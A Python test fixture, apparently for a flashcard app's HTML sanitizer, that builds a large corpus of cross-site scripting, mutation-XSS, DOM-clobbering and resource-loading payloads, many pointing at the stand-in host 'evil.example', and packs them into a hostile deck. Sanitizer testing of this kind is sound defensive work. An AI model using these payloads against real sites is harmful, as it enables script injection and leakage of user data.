"""HTML that tries to act: to run a script, contact a server, send a form, or leave its place on the page.

A script that runs adds to `window.pwned`; every request goes to `EVIL`. Tests show all of these, open and
click everything, and must find neither.
"""

import json
from collections.abc import Sequence

EVIL = "http://evil.example"
RUN = "window.pwned=(window.pwned||0)+1;alert(1)"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src='{EVIL}/x.js'></script>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='{EVIL}/y.js'></script></svg>",
    f"<math><script>{RUN}</script></math>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN!r}>'></noscript>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"</div></script><script>{RUN}</script>",
    f"--></template></style></textarea></title><script>{RUN}</script>",
    f'<!--<img src=\'--><img src=x onerror="{RUN}">-->',
    f'<![CDATA[<img src=x onerror="{RUN}">]]>',
    f"<style><img src='</style><img src=x onerror=\"{RUN}\">'></style>",
    f"<xmp><p title='</xmp><img src=x onerror=\"{RUN}\">'></xmp>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=\"{RUN}\"&gt;'>",
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    f"<svg></p><style><a id='</style><img src=1 onerror=\"{RUN}\">'>",
)

HANDLERS = (
    f'<img src=x onerror="{RUN}">',
    f'<img src="data:," onerror="{RUN}">',
    f'<image src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<svg><image href=x onerror="{RUN}"/></svg>',
    f'<body onload="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<audio src=x onerror="{RUN}"></audio>',
    f'<details open ontoggle="{RUN}"><summary onclick="{RUN}">x</summary></details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<input id=typeans autofocus onfocus="{RUN}">',
    f'<select autofocus onfocus="{RUN}"></select>',
    f'<textarea autofocus onfocus="{RUN}"></textarea>',
    f'<p tabindex=0 autofocus onfocus="{RUN}">x</p>',
    f'<p onclick="{RUN}" onmouseover="{RUN}" onpointerdown="{RUN}">x</p>',
    f'<p style="animation:x 1s" onanimationstart="{RUN}" onanimationend="{RUN}">x</p>',
    f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{RUN}"></b>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<button popovertarget=p onclick="{RUN}">x</button><div id=p popover onbeforetoggle="{RUN}">x</div>',
    f'<img src=x onerror\t=\n"{RUN}"/ / >',
    f'<img/src=x/onerror="{RUN}">',
    f'<math><mi onclick="{RUN}">x</mi></math>',
    f'<a class=hint href="#" onclick="{RUN}">Hint</a><div class=hint>h</div>',
    f'<object data="x" onerror="{RUN}"></object>',
)

ADDRESSES = (
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="JaVaScRiPt:{RUN}">x</a>',
    f'<a href=" &#1; javascript:{RUN}">x</a>',
    f'<a href="java&#10;script:{RUN}">x</a>',
    f'<a href="&#106;avascript&colon;{RUN}">x</a>',
    f'<a href="data:text/html,<script>parent.{RUN}</script>" target=_self>x</a>',
    f'<a href="vbscript:{RUN}">x</a>',
    f'<svg><a href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x"/></svg>',
    f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>x</text></a></svg>',
    f'<svg><set attributeName=onmouseover to="{RUN}"/></svg>',
    f'<math href="javascript:{RUN}"><mi>x</mi></math>',
    f'<math><maction actiontype="statusline#{EVIL}" xlink:href="javascript:{RUN}">x</maction></math>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<form id=f></form><button form=f formaction="javascript:{RUN}">x</button>',
    f'<map name=m><area shape=rect coords=0,0,99,99 href="javascript:{RUN}"></map><img usemap=#m src="data:,">',
)

REQUESTS = (
    f'<img src="{EVIL}/img">',
    f'<img srcset="{EVIL}/srcset 1x">',
    f'<picture><source srcset="{EVIL}/source"><img src=x></picture>',
    f'<video src="{EVIL}/video" poster="{EVIL}/poster" autoplay></video>',
    f'<audio src="{EVIL}/audio" autoplay></audio>',
    f'<video><track src="{EVIL}/track" default></video>',
    f'<link rel=stylesheet href="{EVIL}/css">',
    f'<link rel=prefetch href="{EVIL}/prefetch">',
    f'<link rel=icon href="{EVIL}/icon">',
    f'<style>@import "{EVIL}/import"; * {{ background: url({EVIL}/background) }}</style>',
    f'<p style="background:url({EVIL}/style)">x</p>',
    f"<p style=\"background:image-set('{EVIL}/set' 1x)\">x</p>",
    f'<p style="--i:url({EVIL}/variable);list-style:var(--i)">x</p>',
    f'<table background="{EVIL}/table"><tr><td background="{EVIL}/cell">x</table>',
    f'<body background="{EVIL}/body">',
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<embed src="{EVIL}/embed">',
    f'<object data="{EVIL}/object"></object>',
    f'<svg><image href="{EVIL}/svgimage" width=9 height=9 /></svg>',
    f'<svg><use href="{EVIL}/use#x"/></svg>',
    f'<svg><rect width=9 height=9 fill="url({EVIL}/fill#x)" filter="url({EVIL}/filter#x)"/></svg>',
    f'<svg><style>@import "{EVIL}/svgimport";</style></svg>',
    f'<input type=image src="{EVIL}/input">',
    f'<meta http-equiv=refresh content="0;url={EVIL}/refresh">',
    f'<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="{EVIL}/policy">',
    f'<base href="{EVIL}/"><img src=based>',
    f'<form action="{EVIL}/form"><input name=a value=b><button autofocus>send</button></form>',
    f'<form id=g></form><input type=submit form=g formaction="{EVIL}/formaction">',
    f'<a href="#" ping="{EVIL}/ping">x</a>',
    f'<font style="src:url({EVIL}/font)">x</font>',
)

CLOBBERING = (
    "<form id=data><input name=textContent></form><a id=card>x</a><img name=getElementById src='data:,'>",
    "<p id=menu>x</p><p id=show>x</p><p id=answer>x</p><input id=search>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>over everything</div>",
    "<dialog open style='position:fixed;inset:0'>over everything</dialog>",
    "\u2028\u2029</script><!--<script>--></title>{{data}} ${x} `",
)

CORPUS = SCRIPTS + HANDLERS + ADDRESSES + REQUESTS + CLOBBERING

CSS = (
    f'@import "{EVIL}/import"; .card {{ background: url({EVIL}/card); cursor: url("{EVIL}/cursor"), auto }}\n'
    f"@font-face {{ font-family: x; src: url({EVIL}/font) }} .ptc {{ font-family: x }}\n"
    f"</style></script><script>{RUN}</script> :host, body, html {{ display: none }}"
)
"""The style sheet of an author, who may be as hostile as the cards."""


def adopted_files(attacks: Sequence[str] = CORPUS) -> dict[str, str]:
    """Return a collection with its own note type, whose templates, styling and HTML fences try to act."""
    templates = "\n".join(attack for attack in attacks if "{{" not in attack)
    note_type = {"name": "Evil", "fields": ["Front", "Back"], "templates": [{"name": "Card", "file": "card"}]}
    notes = (f"## Note {number}\n\n~~~~{{=html}}\n{attack}\n~~~~\n" for number, attack in enumerate(attacks))
    return {
        "deck.toml": 'name = "Evil"\nid = "evil"\ntype = "evil"\n',
        "notetypes/evil/notetype.json": json.dumps(note_type),
        "notetypes/evil/card.front.html": f"{SCRIPTS[0]}{{{{Front}}}}{HANDLERS[0]}",
        "notetypes/evil/card.back.html": f"{{{{FrontSide}}}}{{{{Back}}}}{templates}",
        "notetypes/evil/style.css": CSS,
        "evil.md": "\n".join(notes),
    }
